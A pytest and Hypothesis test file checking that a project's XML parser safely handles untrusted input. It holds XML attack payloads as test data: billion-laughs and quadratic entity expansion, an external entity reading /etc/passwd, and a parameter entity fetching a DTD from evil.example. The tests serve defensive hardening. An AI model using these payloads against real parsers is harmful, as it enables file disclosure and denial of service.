"""XML of strangers is parsed without believing it: nothing grows, nothing is fetched, small faults are repaired."""

from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from kliping.errors import Rejected, TooLarge, Unreadable
from kliping.extractors.markup_xml import parse_xml

LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))


def text_of(root: etree._Element) -> str:
    return "".join(map(str, root.itertext()))


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        ("<a>satu <b>dua</b></a>", "satu dua"),
        ('\n \n<?xml version="1.0"?><a>isi</a>', "isi"),
        ("\ufeff<a>isi</a>", "isi"),
        ("<a>Q&A, Sari & Budi</a>", "Q&A, Sari & Budi"),
        ("<a>kota&nbsp;tua &mdash; &eacute;</a>", "kota\xa0tua — é"),
        ("<a>&amp;nbsp; &lt;b&gt; &#233; &#xe9;</a>", "&nbsp; <b> é é"),
        ("<a>&unheardof; &#x;</a>", "&unheardof; &#x;"),
        ("<a b='&#xDC00;'>satu&#xD800;&#0;&#1;&#xFFFE;&#x110000;&#55296;dua &#x1F5DE;</a>", "satudua 🗞"),
        ("<a><![CDATA[Q&A &nbsp; <b>]]> & &nbsp;</a>", "Q&A &nbsp; <b> & \xa0"),
        (f"<a>satu\x08dua{'!' * 100}</a>", f"satudua{'!' * 100}"),
        ("<a>satu<!-- dua -->tiga<?php empat ?></a>", "satutiga"),
        ("<a><b>satu</b><b>terpo", "satuterpo"),
        ("<!-- <!DOCTYPE a [ ]> --><a>isi</a>", "isi"),
        ('<!DOCTYPE rss PUBLIC "-//X//DTD [RSS] 0.91//EN" "https://dtd.example/rss.dtd"><a>isi</a>', "isi"),
    ],
)
def test_small_faults_are_repaired(xml: str, expected: str) -> None:
    assert text_of(parse_xml(xml.encode())) == expected


@pytest.mark.parametrize("charset", ["utf-8", "utf-16", "cp1252"])
def test_a_wrong_charset_in_the_declaration_changes_nothing(charset: str) -> None:
    xml = '<?xml version="1.0" encoding="iso-8859-1"?><a>Café “tua”</a>'

    assert text_of(parse_xml(xml.encode(charset))) == "Café “tua”"


@pytest.mark.parametrize(
    "xml",
    [
        f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><a>&l9;</a>',
        f'<!DOCTYPE a [<!ENTITY x "{"x" * 100_000}">]><a>{"&x;" * 100_000}</a>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><a/>',
        '<?xml version="1.0"?> <!-- a --> <?b c?> <!DOCTYPE a SYSTEM "x>y" [ ]><a/>',
        "<!doctype a [ ]><a/>",
        "<!DOCTYPE a",
        "<!DOCTYPE a><!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>",
    ],
    ids=["billion laughs", "quadratic", "file", "parameter", "after others", "lower case", "open", "the second"],
)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_a_document_type_with_declarations_is_refused(xml: str, charset: str) -> None:
    with pytest.raises(Unreadable, match="document type of its own"):
        parse_xml(xml.encode(charset))


def test_no_other_file_is_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.dtd"
    secret.write_text('<!ENTITY x "rahasia">')
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'

    root = parse_xml(f'<!DOCTYPE a SYSTEM "{secret.as_uri()}"><a>{include}&x;</a>'.encode())

    assert text_of(root) == "&x;"


@pytest.mark.parametrize(
    "xml",
    [
        b"<a>" * 300_000,
        b"<a>" * 3_000_000,
        b"<a>" + b"x" * 50_000_000 + b"</a>",
        b"<a>" + b"x" * 11_000_000 + b"</a>",
        b'<a b="' + b"x" * 11_000_000 + b'"/>',
        b"<a " + b"a='' " * 3_100_000 + b"/>",
    ],
    ids=["deep", "tags", "long", "long text", "long attribute", "attributes"],
)
def test_what_is_too_much_is_refused(xml: bytes) -> None:
    with pytest.raises(TooLarge):
        parse_xml(xml)


@pytest.mark.parametrize("xml", [b"", b"plain text", b"{}", b"\0\1\2\3" * 100, b"<!-- -->", b"<", b"<!--", b"<?"])
def test_what_is_no_xml_is_unreadable(xml: bytes) -> None:
    with pytest.raises(Unreadable):
        parse_xml(xml)


@given(st.text(alphabet="<>/a b='\"&;![]CDAT-?x#1\n").map(str.encode) | st.binary(max_size=200))
def test_any_bytes_are_parsed_or_rejected(content: bytes) -> None:
    for xml in (content, b"<a>" + content):
        with suppress(Rejected):
            assert isinstance(parse_xml(xml).tag, str)
